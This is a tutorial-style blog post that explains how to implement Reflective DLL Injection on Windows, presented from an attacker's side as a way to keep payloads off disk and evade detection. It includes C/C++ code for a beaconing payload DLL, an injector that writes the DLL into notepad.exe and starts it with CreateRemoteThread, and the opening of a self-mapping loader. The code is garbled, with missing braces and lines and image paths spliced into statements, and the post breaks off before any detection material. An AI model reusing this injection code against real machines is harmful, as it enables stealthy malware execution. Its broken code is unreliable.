Reflective DLL Injection

Implementing and detecting Reflective DLL Injections attacks.

Reflective DLL Injection


This post will introduce Reflective DLL Injection along with the steps it takes to implement and execute this technique.A previous post covered the concept of DLL Injection which makes use of the LoadLibraryW function to load a DLL from disk into a process via a thread created remotely. The downside of this option is that the DLL is stored on disk. From the point of view of attackers and malware developers you may not always wish to have your payloads on disk where it may be detected or copied for analysis.

Reflective DLL Injection aims to load a DLL into a specified process, just like traditional DLL Injection, however it aims to do this without dropping the DLL to disk. This is achieved by emulating the Windows Loader and having the DLL load itself in memory so it can be executed.

Source Code for Examples

The source code associated with this post can be found on the following link.

Introduction to DLL Injection

When a executable is launched on Windows it is first mapped into memory, this means that the file needs to be converted from the disk representation to the in-memory representation. There may be multiple parts of the file that require updating, however, most files will at minimum require:

  • Resolution of Import Address Table (IAT) and loading of associated DLLs.
  • Update values in the Base Relocation Table.The core of Reflective DLL Injection is injecting a DLL into another process that has thecapability to map itself into the same memory space. This has the benefit of keeping the DLL in memory as opposed to the disk.

Reflective DLL Injection Process Diagram Example

The following list out the steps of Reflective DLLInjection:

  1. The Reflective DLL Injector will inject the DLL Payload into a target process. The DLL Payload a function will have independent code that when executed will help map the file into memory.
  2. The independent code in the DLL is executed via CreateRemoteThread or any other means.
  3. Through the independent code, the DLL Payload copies itself into another memory buffer in the same process and resolves that IAT and Base Relocation Table.
  4. The independent code will then invoke DLLMain of the mapped DLL Payload.
The independent code mentioned above could be called shellcode, however, since the code is written in C to be independent and is never transferredanywhere in its pure byte/opcode representation I have decided to call it "Independent Code".

Reflective DLL Payload

The Reflective DLL Payload is the main payload that has the core logic we want to execute in the target process. The file has a function sendHTTPRequest that will call out to Google through a HTTP request. This was picked for example purposes in order to have visible feedback from when the payload is executed.

int sendHTTPRequest() {

        LPCSTR userAgent = "agent";LPCSTR connectDomain = "";
        LPCSTR httpRequestType = "GET";
        LPCSTR targetPath = "/test";

        HINTERNET internetHandle = InternetOpenA(userAgent, INTERNET_OPEN_TYPE_DIRECT, NULL, NULL, 0);
        if (internetHandle == NULL) {
                return -1;

        DWORD_PTR dwService = (DWORD_PTR)NULL;

        HINTERNET httpHandle = InternetConnectA(internetHandle, connectDomain, INTERNET_DEFAULT_HTTP_PORT, NULL, NULL, INTERNET_SERVICE_HTTP, 0, dwService);
        if (httpHandle == NULL) {
                return -1;

        HINTERNET httpRequestHandle = HttpOpenRequestA(httpHandle, httpRequestType, targetPath, NULL, NULL, NULL, 0, dwService);
        if (httpRequestHandle == NULL) {
                return -1;

        BOOL result =HttpSendRequestA(httpRequestHandle, NULL, 0, NULL, 0);

        return 1;
HTTP Request Function that acts as our "Payload'

A function named loopHTTPConnect will loop through the sendHTTPRequest function.

void loopHTTPConnect() {

        while (true) {

Function that loops through the "Payload" function

The loopHTTPConnect function is initially invoked through the DLL's DLLMail, which is run when the DLL file is loaded by a process.DWORD  ul_reason_for_call,
                       LPVOID lpReserved

        HANDLE hThread = NULL;

    switch (ul_reason_for_call)
                hThread = CreateThread(NULL, 0, (LPTHREAD_START_ROUTINE)loopHTTPConnect, NULL, 0, NULL);

                if (hThread == NULL) {
                        return FALSE;
    return TRUE;
HTTP Loop Function Invoked in DLLMainReflective DLL Injector

The Reflective DLL Injector is responsible for injecting the DLL Payload into a target process and invoking the independent code that will help the payload run itself.

This Reflective DLL Injector will take the payload from disk, however, this is only for testing and proof of concept purposes. In a real world scenario the payload could be on disk in an obfuscated or encrypted format, embedded within the Reflective DLL Injector itself, or evendownloaded from the network.

When the Reflective DLL Injector gets ahold of the Reflective DLL Payload the first step is to find the offset of the independent code that will help the Reflective DLL Payload load itself in memory. In this case our independent code is an exported function named ReflectiveLoader, in order to find the offset we need to reference the export table and find the RVA of the ReflectiveLoader function. Once found we can then use this when we are creating a remote thread in the target process to execute this code.

        PIMAGE_NT_HEADERS64 pImageNTHeaders = (PIMAGE_NT_HEADERS64)(pDLLPayloadInHeap->e_lfanew + (LPBYTE)pDLLPayloadInHeap);
        PIMAGE_OPTIONAL_HEADER64 pImageOptionalHeader = &pImageNTHeaders->OptionalHeader;

        DWORD virtualAddressOfExportDirectory = pImageOptionalHeader->DataDirectory[IMAGE_DIRECTORY_ENTRY_EXPORT].VirtualAddress;
        PIMAGE_EXPORT_DIRECTORY pExportDirectory = (PIMAGE_EXPORT_DIRECTORY) ConvertRVAToOffset(pDLLPayloadInHeap, virtualAddressOfExportDirectory);

        DWORD numberOfNames = pExportDirectory->NumberOfNames;
        DWORD* pAddressOfNames = (DWORD* ) ConvertRVAToOffset(pDLLPayloadInHeap, pExportDirectory->AddressOfNames);
        DWORD reflectiveLoaderExportOffset = 0;

        for (DWORD i = 0; i < numberOfNames; i++){
                char* currentExportFunctionName = (char*) ConvertRVAToOffset(pDLLPayloadInHeap, pAddressOfNames[i]);

                if (strcmp(currentExportFunctionName, "ReflectiveLoader") == 0) {

                        WORD* pAddressOfNameOrdinals = (WORD*)ConvertRVAToOffset(pDLLPayloadInHeap, pExportDirectory->AddressOfNameOrdinals);
                        WORD currentExportFunctionOrdinal = pAddressOfNameOrdinals[i];

                        DWORD* pAddressOfFunction = (DWORD*)ConvertRVAToOffset(pDLLPayloadInHeap, pExportDirectory->AddressOfFunctions);
                        DWORD reflectiveLoaderRVA = pAddressOfFunction[currentExportFunctionOrdinal];

                        reflectiveLoaderExportOffset = (DWORD)(ConvertRVAToOffset(pDLLPayloadInHeap, reflectiveLoaderRVA) - (ULONG_PTR)pDLLPayloadInHeap);


        if (reflectiveLoaderExportOffset == 0) {
                printf("Failed to locate ReflectiveLoader export\n");
                return -1;
Parsing the DLL Payload Export Table to Locate ReflectiveLoader

The next section will open a handle to any process named notepad.exe, this will be the process we want to inject the DLL Payload into.

        // Find PID of Target Process
        LPCWSTR injectionTargetProcess = L"notepad.exe";
        DWORD injectionTargetProcessID = FindProcessID((LPWSTR)injectionTargetProcess);

        if (injectionTargetProcessID == -1) {
                wprintf(L"Could not find process: %ls", injectionTargetProcess);
                return 0;

        wprintf(L"Injecting into %ls (%d)\n", injectionTargetProcess,injectionTargetProcessID);

        if (hTargetProcess == NULL) {
                std::string errorMessage = GetLastErrorAsString();
                std::cout << "Failed to aquire handle to process: " << errorMessage << "\n";
                return -1;
Open a Handle to notepad.exe

Once a handle is opened to notepad.exe a new buffer is allocated via VirtualAllocEx and the Reflective DLL Payload is copied over to the target process.

        LPVOID remoteBuffer = VirtualAllocEx(hTargetProcess, NULL, dllPayloadSize, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
        if (remoteBuffer == NULL) {
                std::string errorMessage = GetLastErrorAsString();
                std::cout << "Failed to aquire handle to process: " << errorMessage << "\n";
                return -1;

        if (!WriteProcessMemory(hTargetProcess, remoteBuffer, (LPVOID)pDLLPayloadInHeap, dllPayloadSize, NULL)) {
                std::string errorMessage = GetLastErrorAsString();
                std::cout << "Failed to aquire handle to process: " << errorMessage << "\n";

                VirtualFreeEx(hTargetProcess, remoteBuffer, 0, MEM_RELEASE);

                return -1;

After running VirtualAllocEx and copying the DLL Payload into the memory it allocated we have our Reflective DLL Payload in the target process and we know the offset of the ReflectiveLoaderindependent code.

The last step involves creating a remote thread in the target process via CreateRemoteThread that will execute the independent code in the ReflectiveLoader function.

        LPTHREAD_START_ROUTINE lpStartAddress = (LPTHREAD_START_ROUTINE) ((LPBYTE) remoteBuffer+ reflectiveLoaderExportOffset);

        HANDLE hThread = CreateRemoteThread(hTargetProcess, NULL, 0, lpStartAddress, NULL, 0, NULL);
        if (hThread == NULL) {
                std::string errorMessage = GetLastErrorAsString();
                std::cout << "Remote thread failed " << errorMessage << "\n";

                VirtualFreeEx(hTargetProcess, remoteBuffer, 0, MEM_RELEASE);

                return -1;
Create a Remote Thread to Execute the ReflectiveLoader Function in the Target Process Memory Space

Now we have the Reflective DLL Payload loaded in the memory of the target process. However, the file itself is still in a on-disk format. This means we will never be able to execute DLLMain and have the program run gracefully.

The current execution has been passed to our function containing independent code named ReflectiveLoader by the Reflective Loader Injector. This is the core code that will convert this on-disk representation of the code to a in-memory representation and allow us to call DllMain.

Reflective Loading in the DLL Payload

The following will now expand on the details involved in the Reflective DLL implementation. The following code snippets are realted to the independent code found in ReflectiveLoader.

Find The Base Address of the Reflective DLL Payload

The first step for the DLL file to parse itself is to understand the base address it is located at. The ReflectiveLoader function wascalled without any parameters and as a result has no information about the environment it is in.

The first step to do this is to execute a GetCurrentInstructionPointer which will return the RIP of the caller.

__declspec(noinline) ULONG_PTR GetCurrentInstructionPointer(VOID) { return (ULONG_PTR)_ReturnAddress(); }
Helper Function to Retreive the Instruction Pointer

Once the program knows its current RIP it can start working upwards until it reaches the header of the file. The header of the PE file is identified by the MZ bytes, however, we also check against the PE header found in the NT Headers in order to avoid false positives.

        ULONG_PTR pCurrentInstructionPointer = GetCurrentInstructionPointer();PIMAGE_DOS_HEADER pCurrentDLLModule = (PIMAGE_DOS_HEADER)pCurrentInstructionPointer;

        while (TRUE) {

                if (pCurrentDLLModule->e_magic == IMAGE_DOS_SIGNATURE) {

                        // some x64 dll's can trigger a bogus signature (IMAGE_DOS_SIGNATURE == 'POP r10'),
                        // we sanity check the e_lfanew with an upper threshold value of 1024 to avoid problems.
                        // Reference:
                        if (pCurrentDLLModule->e_lfanew >= sizeof(IMAGE_DOS_HEADER) && pCurrentDLLModule->e_lfanew < 1024) {
                                PIMAGE_NT_HEADERS64 pSuspectedNtHeaders = (PIMAGE_NT_HEADERS64)(pCurrentDLLModule->e_lfanew + (LPBYTE)pCurrentDLLModule);
                                if (pSuspectedNtHeaders->Signature == IMAGE_NT_SIGNATURE) {

                pCurrentDLLModule = (PIMAGE_DOS_HEADER)((LPBYTE)pCurrentDLLModule - 1);Once this is finished running we will have a pointer to the beginning of the memory space where the DLL has been placed.

Dynamically load and resolve LoadLibraryA, GetProcAddress, and VirtualAlloc

Since the ReflectiveLoader needs to be independent it cannot invoke any functions directly or have any embeded references to strings. This requires us to:

